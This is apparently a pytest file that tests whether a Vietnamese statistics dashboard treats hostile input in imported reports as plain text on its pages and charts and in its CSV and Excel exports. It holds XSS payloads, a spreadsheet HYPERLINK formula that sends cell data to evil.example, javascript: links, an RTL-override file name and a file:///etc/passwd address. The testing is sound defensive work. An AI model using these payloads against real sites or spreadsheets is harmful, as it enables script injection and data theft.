"""A report whose texts are traps: wherever they are shown or taken away, they are texts.

Each place is a case of docs/SECURITY.md (``T1`` …). The report comes in as reports do, by
``python -m thidua import``; the pages are asked as a browser asks them.
"""

import csv
import io
import shutil
import subprocess
import sys
from html import escape, unescape
from pathlib import Path

import openpyxl
import pandas as pd
import pytest
from standing import ROOT, Process, ports, reading

from thidua.ask import answer
from thidua.charts.look import plain
from thidua.charts.marks import hover
from thidua.export import CitedSource, Sheet, to_csv, to_xlsx
from thidua.ui.markup import link, literal
from thidua.wording import Wording

SCRIPT = "<script>window.taken = 1</script>"
IMAGE = '"><img src="https://evil.example/x.png" onerror="window.taken = 1">'
FORMULA = '=HYPERLINK("https://evil.example/?"&A1;"Niên giám")'
MARKDOWN = "![x](https://evil.example/x.png) [y](javascript:alert(1)) :red[z] $x$"
TURNED = "Báo cáo \u202efdp.exe"
TITLE = f"Báo cáo {SCRIPT}{IMAGE}{MARKDOWN}"
ADDRESS = "javascript:alert(1)"
# 2012 is a year data/ knows of neither.
REPORT = f"""Tỉnh;Năm;Xuất khẩu (triệu USD);Ghi chú
Long An;2012;4321;{SCRIPT}
Bến Tre;2012;1234;{FORMULA}
"""
RAW = (SCRIPT, '<img src="https://evil', 'onerror="window', 'href="javascript')


@pytest.fixture(scope="module")
def poisoned(shared_store: Path, tmp_path_factory: pytest.TempPathFactory):
    """A served store into which the report was imported."""
    folder = tmp_path_factory.mktemp("poisoned")
    shutil.copytree(shared_store, folder / "store")
    report = folder / "bao-cao.csv"
    report.write_text(REPORT, encoding="utf-8")
    process = Process(ports(1)[0], folder / "store", folder / "server.log")
    imported = subprocess.run(
        [
            *(sys.executable, "-m", "thidua", "import", str(report), "--title", TITLE),
            *("--publisher", FORMULA, "--date", "15/3/2024", "--who", IMAGE),
        ],
        cwd=ROOT,
        env=process.environment(),
        capture_output=True,
        text=True,
        check=False,
    )
    assert imported.returncode == 0, imported.stdout + imported.stderr
    process.start()
    yield process
    process.stop()
    assert "A page broke" not in process.log()


PLACES = {
    "T1 the list of documents": ("data", "part=sources&bloc=tay-nam-bo&year=2012"),
    "T2 where sources differ": ("data", "part=conflicts&bloc=tay-nam-bo&year=2012"),
    "T3 what is known": ("data", "part=coverage&bloc=tay-nam-bo&year=2012&span=all"),
    "T4 files to take away": ("data", "part=downloads&chosen=exports&bloc=tay-nam-bo"),
    "T5 the front page": ("", "bloc=tay-nam-bo&year=2012&indicator=exports"),
    "T6 a unit": ("profile", "unit=long-an-63&bloc=tay-nam-bo&year=2012"),
    "T7 lines": ("comparison", "bloc=tay-nam-bo&year=2012&indicators=exports&first=2010&last=2014"),
    "T8 the map": ("map", "bloc=tay-nam-bo&map_indicator=exports&map_year=2012"),
}


@pytest.mark.parametrize(("page", "query"), PLACES.values(), ids=PLACES)
def test_a_trap_on_a_page_is_a_text(poisoned, page, query):
    with reading(poisoned.url) as reader:
        said = reader.ask(query, page, patience=60)
    assert 'class="td-footer"' in said
    assert [raw for raw in RAW if raw in said] == []
    assert "evil.example" not in reader.marked_up


def test_the_traps_are_really_shown(poisoned):
    """Or the tests above would prove nothing."""
    with reading(poisoned.url) as reader:
        said = reader.ask("part=sources&bloc=tay-nam-bo&year=2012&find=b%C3%A1o+c%C3%A1o", "data")
    assert escape(SCRIPT) in said


def test_a_title_reads_back_from_the_base_as_it_was(poisoned, monkeypatch):  # T9
    monkeypatch.setenv("THIDUA_STORE", str(poisoned.store))
    shown = answer("observation", {"unit": "long-an-63", "indicator": "exports", "year": 2012})
    assert SCRIPT in " ".join(map(str, shown.to_numpy().ravel()))


TRAPS = {"a script": SCRIPT, "an image": IMAGE, "a formula": FORMULA, "Markdown": MARKDOWN}


@pytest.mark.parametrize("trap", TRAPS.values(), ids=TRAPS)
def test_a_trap_in_a_chart_is_a_text(trap):  # T10: titles, labels, hover texts
    for drawn in (plain(trap), hover(trap, trap)):
        assert "<script" not in drawn
        assert "<img" not in drawn
        assert trap.replace("\n", " ") in unescape(drawn)


@pytest.mark.parametrize("trap", TRAPS.values(), ids=TRAPS)
def test_a_trap_in_a_message_is_a_text(trap):  # T11: Streamlit's own elements read Markdown
    assert "](" not in literal(trap)
    assert "<" not in literal(trap).replace("\\<", "")


FORMULAS = ["=1+1", "+1", "-1+1", "@SUM(A1)", "\t=1", "\r=1", "＝1", FORMULA]


@pytest.mark.parametrize("trap", FORMULAS)
def test_a_formula_in_a_csv_file_is_a_text(trap):  # T12
    content = to_csv(pd.DataFrame({trap: [trap, "Long An"]})).decode("utf-8-sig")
    cells = [cell for row in csv.reader(io.StringIO(content)) for cell in row]
    assert cells == [f"'{trap}", f"'{trap}", "Long An"]


@pytest.mark.parametrize("trap", [*FORMULAS, SCRIPT, "javascript:alert(1)", "file:///etc/passwd"])
def test_a_trap_in_an_excel_file_is_a_text(trap):  # T13
    sheet = Sheet(
        title="Xuất khẩu",
        caption=trap,
        headings=[trap],
        units=[""],
        table=pd.DataFrame({"a": [trap]}),
        number_formats=["@"],
    )
    about = {"w": Wording("vi"), "digest": "0" * 16, "built_at": pd.Timestamp(2026, 1, 1, tz="UTC")}
    content = to_xlsx([sheet], sources=[CitedSource(1, trap, trap, trap, trap)], **about)
    book = openpyxl.load_workbook(io.BytesIO(content))
    cells = [cell for page in book for row in page.iter_rows() for cell in row]
    assert any(trap.strip() in str(cell.value) for cell in cells)
    assert {cell.data_type for cell in cells} <= {"s", "n"}
    assert [cell.hyperlink for cell in cells if cell.hyperlink] == []


@pytest.mark.parametrize("address", [ADDRESS, "data:text/html,x", "//evil.example", TURNED])
def test_an_address_that_is_none_is_no_link(address):  # T14
    assert "href" not in link("Nguồn", address)
